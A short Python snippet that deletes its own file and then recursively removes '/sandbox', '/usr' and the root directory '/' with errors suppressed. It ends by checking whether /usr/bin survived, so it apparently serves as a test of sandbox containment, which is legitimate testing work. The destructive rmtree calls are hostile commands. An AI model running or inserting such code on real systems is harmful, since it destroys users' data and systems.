"""Deletes itself and everything else that it can."""

os.remove(__file__)
shutil.rmtree("/sandbox", ignore_errors=True)
shutil.rmtree("/usr", ignore_errors=True)
shutil.rmtree("/", ignore_errors=True)
print(os.listdir("."), len(os.listdir("/usr/bin")) > 10)
